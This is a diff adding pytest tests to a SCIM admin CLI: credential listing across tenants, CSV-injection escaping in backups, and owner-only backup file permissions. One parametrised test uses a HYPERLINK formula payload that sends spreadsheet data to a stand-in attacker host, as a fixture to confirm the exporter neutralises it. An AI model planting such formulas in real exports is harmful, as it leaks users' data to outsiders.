@@ -15,6 +15,7 @@ from admin.__main__ import main
 from admin.target import TargetError, use_stage
 from chalicelib import stage_secrets
 from chalicelib.config import settings
+from chalicelib.store.role_mappings import RoleMapping, RoleMappingTable
 from tests.conftest import Scim, dynamodb_client, user_body
 
 STAGE = ["--stage", "test"]
@@ -60,6 +61,31 @@ def test_create_tenant_generate_use_list_and_revoke(chalice_client: Client, caps
     code, out, _ = run(capsys, "credentials", "generate", "initech")
     assert code == 0
     assert Scim(chalice_client, basic(issued(out))).get("/Users").status_code == 200
+
+
+def test_credentials_list_all_shows_every_tenants_active_credential_to_rotate_them(
+    aws: None, capsys: pytest.CaptureFixture[str]
+) -> None:
+    active = {}
+    for tenant in ("initech", "acme", "globex"):
+        run(capsys, "tenant", "create", tenant)
+        first = issued(run(capsys, "credentials", "generate", tenant, "--description", f"{tenant} IdP")[1])
+        active[tenant] = first
+    run(capsys, "credentials", "revoke", active["globex"]["SCIM_CLIENT_ID"])
+    active["globex"] = issued(run(capsys, "credentials", "generate", "globex")[1])
+    run(capsys, "tenant", "create", "hooli")  # no credential yet
+    code, out, _ = run(capsys, "credentials", "list", "--all")
+    assert code == 0
+    header, *rows = [line.split("\t") for line in out.splitlines()]
+    assert header == ["tenant", "client_id", "created", "last_used", "description"]
+    assert [(row[0], row[1]) for row in rows] == [
+        (tenant, active[tenant]["SCIM_CLIENT_ID"]) for tenant in ("acme", "globex", "initech")
+    ]
+    for values in active.values():
+        assert values["SCIM_CLIENT_SECRET"] not in out
+    code, _, err = run(capsys, "credentials", "list")
+    assert code == 2 and "--all" in err
+    assert run(capsys, "credentials", "list", "acme", "--all")[0] == 2
 
 
 def test_generate_without_a_service_account_is_refused(aws: None, capsys: pytest.CaptureFixture[str]) -> None:
@@ -141,6 +167,45 @@ def test_backup_exports_users_with_roles_and_restores_mappings(
     run(capsys, "roles", "delete", "acme", "Finance")
     assert run(capsys, "backup", "restore-roles", "acme", str(tmp_path / "csv"))[0] == 0
     assert run(capsys, "roles", "show", "acme", "Finance")[0] == 0
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_csv_backup_never_holds_a_formula_and_restores_the_same_names(
+    scim: Scim, tmp_path: Path, capsys: pytest.CaptureFixture[str], start: str
+) -> None:
+    # An IdP's userName or externalId starting with "=" became a spreadsheet formula (CSV injection).
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1)'
+    scim.post("/Users", user_body("carol@example.com", externalId=formula))
+    mappings = RoleMappingTable(dynamodb_client(), settings().role_mappings_table, "acme")
+    mappings.put(RoleMapping(f"{start}Finance", (f"{start}Payroll",), ()))
+
+    assert run(capsys, "backup", "export", "acme", "--format", "csv", "--output", str(tmp_path / "csv"))[0] == 0
+
+    for name in ("users.csv", "role_mappings.csv"):
+        with (tmp_path / "csv" / name).open(newline="") as file:
+            cells = [cell for row in csv.reader(file) for cell in row]
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
+    with (tmp_path / "csv" / "users.csv").open(newline="") as file:
+        assert next(csv.DictReader(file))["external_id"] == "'" + formula
+    mappings.delete(f"{start}Finance")
+    assert run(capsys, "backup", "restore-roles", "acme", str(tmp_path / "csv"))[0] == 0
+    restored = f"{start}Finance".strip()  # a restore trims names, a leading tab or CR too
+    assert mappings.get(restored) == RoleMapping(restored, (f"{start}Payroll".strip(),), ())
+
+
+@pytest.mark.parametrize("fmt", ["json", "csv"])
+def test_backup_files_are_readable_by_their_owner_only(
+    scim: Scim, tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
+) -> None:
+    output = tmp_path / f"backup.{fmt}"
+    if fmt == "json":
+        output.write_text("an older backup, world-readable")
+        output.chmod(0o644)
+
+    assert run(capsys, "backup", "export", "acme", "--format", fmt, "--output", str(output))[0] == 0
+
+    files = [output] if fmt == "json" else [output / "users.csv", output / "role_mappings.csv"]
+    assert [oct(path.stat().st_mode & 0o777) for path in files] == [oct(0o600)] * len(files)
 
 
 def test_without_a_running_make_run_the_cli_says_what_to_do(
